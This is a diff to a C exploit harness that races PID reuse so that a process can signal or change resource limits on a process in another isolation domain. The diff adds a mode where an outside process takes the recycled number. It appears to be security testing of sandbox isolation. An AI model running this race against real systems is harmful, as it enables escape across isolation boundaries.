@@ -1,5 +1,6 @@
 /* Traces (or signals, tunes) a process by a number that is another's by then: the call was decided, and its thread gets
- * no time to make it until the number has come to what enters another domain. Where numbers come again late, there is no attack. */
+ * no time to make it until the number has come to what enters another domain, or (outside) to a process outside, which tells
+ * what became of it. Where numbers come again late, there is no attack. */
 #include "attack.h"
 #include <limits.h>
 #include <linux/futex.h>
@@ -15,8 +16,17 @@ static volatile int is_idle, goes, is_traced;
 /* Whether those that are busy are. */
 static volatile int *busy;
 
+static int is_outside(void) { return !strcmp(way, "outside"); }
+
 static int is_vault(pid_t pid) {
     char name[64], exe[PATH_MAX] = "";
+    if (is_outside()) {
+        snprintf(name, sizeof name, "/proc/%d/comm", pid);
+        int comm = open(name, O_RDONLY);
+        int got = comm < 0 ? 0 : read(comm, exe, sizeof exe - 1);
+        close(comm);
+        return got > 0 && !strncmp(exe, "outsider", 8);
+    }
     snprintf(name, sizeof name, "/proc/%d/exe", pid);
     return readlink(name, exe, sizeof exe - 1) > 5 && !strcmp(exe + strlen(exe) - 6, "/vault");
 }
@@ -35,7 +45,7 @@ static void *trace(void *none) {
     sched_setscheduler(0, SCHED_IDLE, &nothing);
     is_idle = 1;
     while (!goes) continue;
-    if (!strcmp(way, "signal") || !strcmp(way, "tune")) {
+    if (!strcmp(way, "signal") || !strcmp(way, "tune") || is_outside()) {
         struct rlimit limit = {FILES, FILES};
         is_traced = !(*way == 's' ? kill(victim, SIGTERM) : prlimit(victim, RLIMIT_NOFILE, &limit, NULL));
         return none;
@@ -92,6 +102,17 @@ static pid_t take_numbers(void) {
     return taken;
 }
 
+/* Takes all numbers but a few before that one, and has somebody outside take those. */
+static void come_near(pid_t number) {
+    pid_t taken = take_numbers();
+    for (int n = 0; n < MOST_NUMBERS / NEAR * 4 && (taken >= number - NEAR / 4 || taken < number - 2 * NEAR); n++)
+        taken = take_numbers();
+    FILE *file = fopen("number.new", "w");
+    fprintf(file, "%d\n", number);
+    fclose(file);
+    rename("number.new", "number");
+}
+
 /* Has a process of that number enter the vault, once it is free. */
 static void come_to(pid_t number) {
     pid_t taken = take_numbers();
@@ -126,14 +147,23 @@ static void turn(void) {
     usleep(50000);
     int early = is_traced;
     kill(victim, SIGKILL);
-    waitpid(victim, NULL, 0);
-    if (!early) come_to(victim);
-    for (double end = now() + 0.5; now() < end && !is_vault(victim);) usleep(1000);
+    /* Whoever decides may keep its number meanwhile. */
+    int is_kept = 1;
+    for (double end = now() + 2; is_kept && now() < end; usleep(1000)) is_kept = waitpid(victim, NULL, WNOHANG) != victim;
+    if (is_kept) fprintf(stderr, "held: the number is kept\n");
+    early |= is_kept;
+    if (!early) is_outside() ? come_near(victim) : come_to(victim);
+    for (double end = now() + (is_kept ? 0 : is_outside() ? 3 : 0.5); now() < end && !is_vault(victim);) usleep(1000);
     int there = is_vault(victim), status;
     fprintf(stderr, "reached %d before; the vault has the number: %d\n", early, there);
     keep_busy(0);
     pthread_join(tracer, NULL);
     usleep(10000);
+    if (is_outside()) {
+        unlink("number");
+        pthread_join(held, NULL);
+        return;
+    }
     struct rlimit limit;
     if (there && !prlimit(victim, RLIMIT_NOFILE, NULL, &limit) && limit.rlim_cur == FILES) escaped("tunes another domain");
     if (there && waitpid(victim, &status, WNOHANG) == victim && WIFSIGNALED(status)) escaped("signals another domain");
@@ -151,9 +181,9 @@ static int attack(void) {
         return 0;
     }
     /* From now on domains are told apart. */
-    pid_t child = fork();
-    if (child == 0) vault();
-    waitpid(child, NULL, 0);
+    pid_t child = is_outside() ? 0 : fork();
+    if (child == 0 && !is_outside()) vault();
+    if (child) waitpid(child, NULL, 0);
     mkfifo("fifo", 0600);
     busy = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
     for (int n = 0; n < BUSY; n++)
